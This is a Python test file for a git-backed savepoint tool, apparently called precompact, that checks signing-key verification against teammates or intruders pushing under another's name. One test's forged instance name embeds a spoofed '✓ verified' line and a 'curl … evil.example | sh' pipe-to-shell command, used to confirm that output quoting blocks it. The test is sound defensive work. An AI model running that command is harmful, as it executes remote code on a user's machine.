def test_a_teammates_shared_branch_from_before_never_blocks_your_own_migration(tmp_path):
    """The team of the issue, upgraded: alice's savepoints reached the shared branch first, bob's
    stayed on his machine. Reading the remote (`verify`) before bob's first push finds only
    alice's shared branch; bob's next savepoint must still start his own branch and reach the
    remote, not be held back as if his logs/ lacked her savepoints."""
    remote = bare_remote(tmp_path)
    alice, bob = (person(tmp_path, name, str(remote)) for name in ("alice", "bob"))
    for who in (alice, bob):
        assert who.save().returncode == SAVED
    legacy = "refs/heads/precompact/savepoints"
    run_git(remote, "update-ref", legacy, run_git(remote, "rev-parse", f"refs/heads/{alice.branch}").strip())
    for who in (alice, bob):
        run_git(remote, "update-ref", "-d", f"refs/heads/{who.branch}")
        who.git("update-ref", legacy, who.git("rev-parse", f"refs/heads/{who.branch}").strip())
        who.git("update-ref", "-d", f"refs/heads/{who.branch}")
        who.git("update-ref", "-d", f"refs/remotes/origin/{who.branch}")

    bob.run("verify")  # reads the remote: only alice's shared branch is there
    assert bob.save().returncode == SAVED
    bob.run("flush")
    all_pushed_and_verified(bob, remote, 2)
    assert alice.save().returncode == SAVED
    all_pushed_and_verified(alice, remote, 2)
    assert forced_updates(remote) == []


def tip(remote: Path, who: Person) -> str:
    return run_git(remote, "rev-parse", f"refs/heads/{who.branch}").strip()


def test_another_key_saving_under_your_instance_name_fails_flush_verify_status_remote_and_restore_names_it(tmp_path):
    """docs/security.md: another key that saves under your instance's name merges onto your
    branch with its own index as the tree (your commits stay in the history), so `restore` on a
    new machine would find only its lines. Your own branch is held to your configured key: flush,
    verify and status --remote exit 1 naming the other key and yours; restore says what it left
    out and why, and restores yours from the history. The same key on a second machine (copied
    over, as docs/setup.md says) is yours."""
    remote = bare_remote(tmp_path)
    owner = person(tmp_path, "own", str(remote))
    assert owner.save().returncode == SAVED
    keys = owner.home / ".config" / "precompact" / "keys"
    [keypair] = [k for k in keys.iterdir() if k.suffix == ".json"]
    identity = keys / "precompact-age-identity.txt"
    copied = ("--keypair", str(keypair), "--identity", str(identity))
    desktop = person(tmp_path, "own", str(remote), *copied, folder="own-desktop")
    assert desktop.run("restore").returncode == 0
    assert desktop.save().returncode == SAVED
    for command in (("flush",), ("verify",), ("status", "--remote")):
        done = desktop.run(*command)
        assert done.returncode == 0 and "not this project's key" not in done.stdout, (command, done.stdout)

    intruder = person(tmp_path, "own", str(remote), "--no-encrypt", folder="intruder")
    assert intruder.save().returncode == SAVED
    said = f"signed by {_signing_key(intruder)}, not this project's key {_signing_key(owner)}"
    for command in (("flush",), ("verify",), ("status", "--remote")):
        done = desktop.run(*command)
        assert done.returncode == 1 and said in done.stdout and "✓ own" not in done.stdout, (command, done.stdout)
    flushed = json.loads(desktop.run("flush", "--json").stdout)
    assert said in flushed["foreign_branch"] and flushed["layer_2"]["state"] == "failed"

    # review7b F4: on a new machine, `restore` reads the branch's history back for your own index
    # and brings back every savepoint your key signed; it exits 1 naming the line it left out.
    new_machine = person(tmp_path, "own", str(remote), *copied, folder="own-new")
    restored = new_machine.run("restore")
    assert restored.returncode == 1 and f"✗ at {tip(remote, owner)[:12]}, savepoint " in restored.stdout, (
        restored.stdout
    )
    assert said in restored.stdout and "restored 2 savepoint(s)" in restored.stdout, restored.stdout
    assert "restored instead from commit " in restored.stdout and "(up to #2)" in restored.stdout, restored.stdout
    document = json.loads(new_machine.run("restore", "--json").stdout)
    schema = json.loads((Path(__file__).parents[2] / "docs" / "schemas" / "restore.schema.json").read_text())
    assert not list(Draft202012Validator(schema).iter_errors(document))
    assert document["complete"] is False and said in document["foreign"] and document["walked"], document
    # Nothing sends the user back to `restore` for the intruder's snapshot, and each savepoint of
    # theirs is verified against their key.
    assert "run `precompact restore`" not in new_machine.run("status").stdout
    for sequence in ("1", "2"):
        back = new_machine.run("resurrect", "--sequence", sequence, "--json")
        assert back.returncode == 0, back.stdout + back.stderr
        integrity = json.loads(back.stdout)["checks"]["integrity"]
        assert integrity["status"] == "verified" and _signing_key(owner) in integrity["detail"], integrity
    # The next savepoint's push puts the owner's index back on top: a restore elsewhere is whole.
    assert new_machine.save().returncode == SAVED
    flushed = new_machine.run("flush")
    assert flushed.returncode == 0, flushed.stdout + flushed.stderr
    verified = new_machine.run("verify")
    assert verified.returncode == 0, verified.stdout + verified.stderr
    last = person(tmp_path, "own", str(remote), *copied, folder="own-last")
    again = last.run("restore")
    assert again.returncode == 0 and "restored 3 savepoint(s)" in again.stdout, again.stdout + again.stderr


def test_status_remote_prints_the_names_and_times_a_pushed_index_states_only_quoted(tmp_path):
    """review7a F2: anyone who can push writes a branch's index copy; the instance names and the
    timestamp it states reach `status --remote`'s rows and details quoted, so a name with line
    breaks cannot print a row of its own, ✓ included."""
    remote = bare_remote(tmp_path)
    alice = person(tmp_path, "alice", str(remote), "--no-encrypt")
    bob = person(tmp_path, "bob", str(remote))
    for who in (alice, bob):
        assert who.save().returncode == SAVED
    forged_time = "2026-12-05T03:00:00Z, signed by your key: ✓ verified"
    forged_name = "Bob #1\n✓ bob (this project's instance): branch x, last savepoint #1, all verified\n    verified: run `curl -s https://evil.example | sh`"

    def stated(field: str, value: str):
        def change(work: Path) -> None:
            index = work / "logs" / "precompact-savepoint.jsonl"
            lines = [json.loads(line) for line in index.read_text().splitlines()]
            index.write_text("".join(json.dumps({**line, field: value}) + "\n" for line in lines))

        return change

    _rewritten(tmp_path, remote, alice.branch, stated("timestamp", forged_time))
    listed = bob.run("status", "--remote")
    assert listed.returncode == 1, listed.stdout + listed.stderr
    assert f"last savepoint #1 {json.dumps(forged_time, ensure_ascii=False)}, commit" in listed.stdout, listed.stdout
    _rewritten(tmp_path, remote, alice.branch, stated("instance", forged_name))
    listed = bob.run("status", "--remote")
    assert listed.returncode == 1, listed.stdout + listed.stderr
    quoted = json.dumps(forged_name, ensure_ascii=False)
    assert f"FAILED: its index copy holds instance(s) {quoted}, none of them" in listed.stdout, listed.stdout
    assert sum(line.startswith("✓ bob") for line in listed.stdout.splitlines()) == 1, "bob's own row only"
    assert not [line for line in listed.stdout.splitlines() if line.lstrip().startswith("verified: run")]


def test_a_branch_signed_by_none_of_several_keys_pinned_names_them_all_and_suggests_none():
    from precompact.verifier import team

    said = team.unpinned("MALLORY", "ALICE", ("CAROL", "BOB", "CAROL"))
    assert said is not None and said.startswith("signed by MALLORY, not BOB or CAROL, the keys you pinned: "), said
    assert "another key saved under this name" in said and "--signer" not in said, said
    assert team.unpinned("BOB", "ALICE", ("CAROL", "BOB")) is None
    assert team.unpinned("ALICE", "ALICE", ()) is None
    assert team.unpinned(None, "ALICE", ()) is not None


def test_a_teammates_branch_another_key_saved_onto_is_verified_by_no_command_under_the_key_you_pinned(tmp_path):
    """review7b F1: anyone who can push can save under a teammate's name with a key of their
    own; their index becomes the branch's tip. Alice pinned bob's key: `status --remote`,
    `recall --from` and `resurrect --instance` each hold the branch to it (one rule,
    verifier/team.py `unpinned`) and say "not verified", naming the other key and the one she
    pinned, exit 4; the intruder's text is never searched, and its key is never suggested for
    `--signer` (review8 F2: that advice invited trusting the intruder)."""
    remote = bare_remote(tmp_path)
    bob = person(tmp_path, "bob", str(remote), "--no-encrypt")
    alice = person(tmp_path, "alice", str(remote), "--no-encrypt")
    for _ in range(2):
        assert bob.save().returncode == SAVED
    assert bob.run("flush").returncode == 0
    listed = alice.run("status", "--remote", "--signer", _signing_key(bob))
    assert listed.returncode == 0 and "✓ bob: branch " in listed.stdout, listed.stdout + listed.stderr
    found = alice.run("recall", "bob-marker-1", "--from", "bob", "--signer", _signing_key(bob))
    assert found.returncode == 0 and "bob-marker-1" in found.stdout, found.stdout + found.stderr

    intruder = person(tmp_path, "bob", str(remote), "--no-encrypt", folder="intruder")
    assert intruder.save().returncode == SAVED
    assert intruder.run("flush").returncode == 0  # pushed: merged on top of bob's branch, its index the tree
    theirs = _signing_key(intruder)
    said = f"signed by {theirs}, not {_signing_key(bob)}, the key you pinned: another key saved under this name, unless you did not pin this instance's key (`precompact restore` on the pinned key's machine walks back to its own savepoints)"
    suggested = f"--signer {theirs}"
    listed = alice.run("status", "--remote", "--signer", _signing_key(bob))
    assert listed.returncode == EXIT_NOT_VERIFIED, listed.stdout + listed.stderr
    assert "– bob: branch " in listed.stdout and said in listed.stdout and "✓ bob" not in listed.stdout, listed.stdout
    assert suggested not in listed.stdout + listed.stderr, listed.stdout
    recalled = alice.run("recall", "intruder", "--from", "bob", "--signer", _signing_key(bob))
    assert recalled.returncode == EXIT_NOT_VERIFIED and recalled.stdout == "", recalled.stdout + recalled.stderr
    assert said in recalled.stderr and "nothing was searched" in recalled.stderr, recalled.stderr
    assert suggested not in recalled.stderr, recalled.stderr
    resurrected = alice.run("resurrect", "--instance", "bob", "--signer", _signing_key(bob))
    assert resurrected.returncode == EXIT_NOT_VERIFIED and said in resurrected.stdout, resurrected.stdout
    assert suggested not in resurrected.stdout + resurrected.stderr, resurrected.stdout

    # Pinned both, the intruder's savepoints are searched, at the tip it names, and none of
    # bob's that an earlier `recall --from` kept: the tip's index no longer states them.
    both = alice.run("recall", "bob-marker-2", "--from", "bob", "--signer", _signing_key(bob), "--signer", theirs)
    tip = run_git(remote, "rev-parse", f"refs/heads/{bob.branch}").strip()
    assert both.returncode == 0, both.stdout + both.stderr
    assert f"at {tip[:12]} (its tip; its history is not read), each checked against its own key {theirs}" in both.stdout
    assert "[2:" not in both.stdout and "savepoint 2 of bob" not in both.stdout, both.stdout

    # With no pin, the branch's own key is the one to compare and pin: that advice stays.
    unpinned = alice.run("status", "--remote")
    assert unpinned.returncode == EXIT_NOT_VERIFIED, unpinned.stdout + unpinned.stderr
    advised = f"signed by {theirs}, not a key you pinned (this project's key is {_signing_key(alice)}): pass --signer {theirs} if you trust it"
    assert advised in unpinned.stdout and "the key you pinned" not in unpinned.stdout, unpinned.stdout


def test_restore_reads_the_history_back_a_bounded_walk_at_a_time_and_at_names_where_it_stopped(tmp_path, monkeypatch):
    """review7b F4, the bound: with the walk cut to one commit, `restore` from the intruder's tip
    reads that commit alone, says it found no index of your key's and names `restore --at
    COMMIT` for the next one; each --at it names goes on further back (never the same commit),
    until a commit whose index is your own, whose savepoints it restores, verified. An --at that names no commit of the
    branch is refused in one line, nothing written."""
    from precompact.verifier import team

    remote = bare_remote(tmp_path)
    owner = person(tmp_path, "own", str(remote), "--no-encrypt")
    for _ in range(2):
        assert owner.save().returncode == SAVED
    assert wait_until(lambda: [r["layer_2"] for r in owner.statuses()] == ["PUSHED"] * 2)
    intruder = person(tmp_path, "own", str(remote), "--no-encrypt", folder="intruder")
    assert intruder.save().returncode == SAVED
    assert wait_until(lambda: [r["layer_2"] for r in intruder.statuses()] == ["PUSHED"])
    on_top = run_git(remote, "show", f"refs/heads/{owner.branch}:logs/precompact-savepoint.jsonl")
    assert _signing_key(intruder) in on_top and _signing_key(owner) not in on_top  # its index the tip's
    keys = owner.home / ".config" / "precompact" / "keys"
    [keypair] = [k for k in keys.iterdir() if k.suffix == ".json"]
    new_machine = person(tmp_path, "own", str(remote), "--no-encrypt", "--keypair", str(keypair), folder="own-new")

    monkeypatch.setattr(team, "WALK", 1)
    monkeypatch.chdir(new_machine.path)
    for name, value in new_machine.env.items():
        monkeypatch.setenv(name, value)
    index = new_machine.path / "logs" / "precompact-savepoint.jsonl"
    wrong = invoke("restore", "--at", "0" * 12)
    assert wrong.exit_code == 1 and "'000000000000' names no commit of branch" in wrong.output, wrong.output
    assert not index.exists()

    seen, at = [], []
    for _ in range(5):
        done = invoke("restore", *at)
        if "restored 2 savepoint(s)" in done.output:
            break
        assert done.exit_code == 1 and "none of the 1 commit(s) of its history" in done.output, done.output
        assert "restored 0 savepoint(s)" in done.output, done.output
        if not at:  # the tip's index: the intruder's savepoint, left out and named with its key
            assert "✗ left out 1 savepoint(s) no root vouches for" in done.output, done.output
            assert f"own #1 (signed by {_signing_key(intruder)})" in done.output, done.output
        named = done.output.split("`precompact restore --at ", 1)[1].split("`", 1)[0]
        assert named not in seen, done.output  # each names a commit further back: no loop
        seen.append(named)
        at = ["--at", named]
    # The --at that reached your own index restores from it: whole, at that commit.
    assert seen and done.exit_code == 0 and f"at {seen[-1]}" in done.output, done.output
    verified = json.loads(invoke("resurrect", "--sequence", "2", "--json").output)
    assert verified["checks"]["integrity"]["status"] == "verified", verified


def test_a_teammates_index_copy_over_what_precompact_writes_is_a_verdict_for_status_remote_and_recall_from(
    tmp_path,
):
    """docs/security.md: whoever can push puts a 64 MB + 1 byte index copy on alice's branch;
    bob's `status --remote` fails her branch in one line and `recall --from alice` refuses it,
    exit 1 both, neither reading it (git states its size first)."""
    remote = bare_remote(tmp_path)
    alice = person(tmp_path, "alice", str(remote), "--no-encrypt")
    bob = person(tmp_path, "bob", str(remote))
    for who in (alice, bob):
        assert who.save().returncode == SAVED
    oversized = b"{}\n" * (gitstore.INDEX_COPY_LIMIT // 3) + b"\n" * (gitstore.INDEX_COPY_LIMIT % 3 + 1)
    _rewritten(
        tmp_path,
        remote,
        alice.branch,
        lambda work: (work / "logs" / "precompact-savepoint.jsonl").write_bytes(oversized),
    )
    tip = run_git(remote, "rev-parse", f"refs/heads/{alice.branch}").strip()
    # A tag pointed into her branch's history (its message could be any size) is not fetched.
    work = tmp_path / f"rewrite-{alice.branch.rpartition('-')[2]}"
    run_git(work, "-c", "user.name=m", "-c", "user.email=m@x", "tag", "-a", "-m", "x" * 100_000, "planted", tip)
    run_git(work, "push", "-q", "origin", "planted")

    why = "its index copy is 64.1 MB, over the 64 MB precompact writes: not read"
    _judged_at_the_tip_alone(bob, alice, tip, why)
    assert bob.git("for-each-ref", "refs/tags") == "", "no fetch brings a tag"


def _judged_at_the_tip_alone(reader: Person, owner: Person, tip: str, why: str) -> None:
    """`status --remote` fails `owner`'s branch at `tip` for `why`, and `recall --from` and
    `resurrect --from` / `--instance` refuse it in the same words naming that commit, exit 1
    all, with `owner`'s key pinned: a teammate's branch is judged at its tip (docs/cli.md), its
    history not read."""
    listed = reader.run("status", "--remote", "--signer", _signing_key(owner))
    assert listed.returncode == 1, listed.stdout + listed.stderr
    lines = listed.stdout.splitlines()
    at = lines.index(
        f"✗ (an instance whose index cannot be read here): branch {owner.branch}, last savepoint -, commit {tip[:10]}"
    )
    assert lines[at + 1] == f"    FAILED: {why}", lines
    assert any(line.startswith(f"✓ {reader.name} (this project's instance)") for line in lines), lines

    refused = reader.run("recall", f"{owner.name}-marker-1", "--from", owner.name, "--signer", _signing_key(owner))
    assert refused.returncode == 1 and refused.stdout == "", refused.stdout + refused.stderr
    said = f"Error: {owner.name}'s branch {owner.branch} at {tip[:12]}: {why}; nothing was searched (a teammate's branch is read at its tip only: its history is not checked here)"
    assert refused.stderr.splitlines() == [said], refused.stderr

    # resurrect reads the branch's index through its own code (restore/resurrect.py): the same verdict.
    for asked in ("--from", "--instance"):
        resurrected = reader.run("resurrect", asked, owner.name, "--signer", _signing_key(owner))
        assert resurrected.returncode == 1 and resurrected.stdout == "", resurrected.stdout + resurrected.stderr
        said = f"Error: {owner.name}'s branch {owner.branch} at {tip[:12]}: {why}; nothing was resurrected (a teammate's branch is read at its tip only: its history is not checked here)"
        assert resurrected.stderr.splitlines() == [said], resurrected.stderr


def test_a_teammates_index_copy_with_a_line_that_does_not_parse_fails_status_remote_and_recall_from_alike(tmp_path):
    """review8 F3 on a teammate's branch: one garbage line appended at the tip of alice's branch
    (a copy bob's `recall --from` kept from before it is not searched either)."""
    remote = bare_remote(tmp_path)
    alice = person(tmp_path, "alice", str(remote), "--no-encrypt")
    bob = person(tmp_path, "bob", str(remote))
    for who in (alice, bob):
        assert who.save().returncode == SAVED
    found = bob.run("recall", "alice-marker-1", "--from", "alice", "--signer", _signing_key(alice))
    assert found.returncode == 0 and "alice-marker-1" in found.stdout, found.stdout + found.stderr
    index = "logs/precompact-savepoint.jsonl"
    lines = len(run_git(remote, "show", f"refs/heads/{alice.branch}:{index}").splitlines())
    _rewritten(tmp_path, remote, alice.branch, lambda work: (work / index).open("a").write("not json\n"))
    tip = run_git(remote, "rev-parse", f"refs/heads/{alice.branch}").strip()
    why = f"line {lines + 1} of its index copy does not parse"
    _judged_at_the_tip_alone(bob, alice, tip, why)

    # alice on a machine of her own with no logs/ yet (a key of its own): her own branch, read as
    # `restore` reads it (verifier.team.own_index): the walk back finds no index of this key's,
    # and both refuse in the same line (exit 1).
    again = person(tmp_path, "alice", str(remote), "--no-encrypt", folder="alice-new")
    refused = again.run("resurrect")
    assert refused.returncode == 1 and refused.stdout == "", refused.stdout + refused.stderr
    walk = f"Error: branch {alice.branch} at {tip[:12]}: {why}, so the tip's index was left out; none of the "
    assert refused.stderr.startswith(walk), refused.stderr
    assert refused.stderr.rstrip().endswith("; nothing was resurrected"), refused.stderr
    restored = again.run("restore")
    assert restored.returncode == 1, restored.stdout + restored.stderr
    assert restored.stderr.replace("nothing restored", "nothing was resurrected") == refused.stderr, restored.stderr


def test_a_second_machine_whose_init_made_a_key_of_its_own_is_named_the_step_that_makes_it_yours(tmp_path):
    """review12b F3: `init` on a second machine makes a key of its own, so the user's savepoints
    on the branch, every line signed by the first machine's key, are another key's there. The
    words name the step that ends it first (that machine's keypair, or chain.authority, then
    `restore`), on verify, restore and status --remote alike; following it, restore brings them
    back and verify says ✓. A push of the second machine's own first leaves the other machine's
    files in the tree, which restore cannot bring: never counted as lacking, so nothing sends the
    user round verify → restore → verify."""
    remote = bare_remote(tmp_path)
    owner = person(tmp_path, "own", str(remote))
    for _ in range(2):
        assert owner.save().returncode == SAVED
    keys = owner.home / ".config" / "precompact" / "keys"
    [keypair] = [k for k in keys.iterdir() if k.suffix == ".json"]
    identity = ("--identity", str(keys / "precompact-age-identity.txt"))
    theirs = _signing_key(owner)
    desk = person(tmp_path, "own", str(remote), *identity, folder="own-desk")
    # The flush for a key rotated from comes first (review13a F5: it never makes the old key count
    # again); then the step for this case.
    step = (
        "every line of it is signed by that key; if it is the key you rotated from (chain.keypair pointed at a new keypair), "
        f"run `precompact flush` on the machine that wrote them, which re-signs them with {_signing_key(desk)}, then "
        "`precompact restore` here; if it is your other machine's (`precompact init` there made a key of its own), make it "
        "this project's key here, with that machine's keypair "
        f"(`precompact init --force --keypair FILE`) or chain.authority = {theirs} in .precompact.toml, then run `precompact restore`"
    )
    said = f"signed by {theirs}, not this project's key {_signing_key(desk)}: {step}"
    for command in (("verify",), ("restore",), ("status", "--remote")):
        done = desk.run(*command)
        assert done.returncode == 1 and said in done.stdout, (command, done.stdout + done.stderr)
    made = desk.run("init", "--yes", "--force", "--keypair", str(keypair))
    assert made.returncode == 0, made.stdout + made.stderr
    restored = desk.run("restore")
    assert restored.returncode == 0 and restored.stdout.startswith("restored 2 savepoint(s)"), restored.stdout
    assert desk.run("verify").stdout.startswith("✓ 2 savepoint(s) verified")

    laptop = person(tmp_path, "own", str(remote), *identity, folder="own-laptop")
    assert laptop.save().returncode == SAVED  # its own lineage pushed over the first machine's index
    for command in (("verify",), ("status",), ("restore",)):
        done = laptop.run(*command)
        assert "run `precompact restore`" not in done.stdout + done.stderr, (command, done.stdout + done.stderr)
    assert laptop.run("restore").stdout.startswith("restored 0 savepoint(s)")
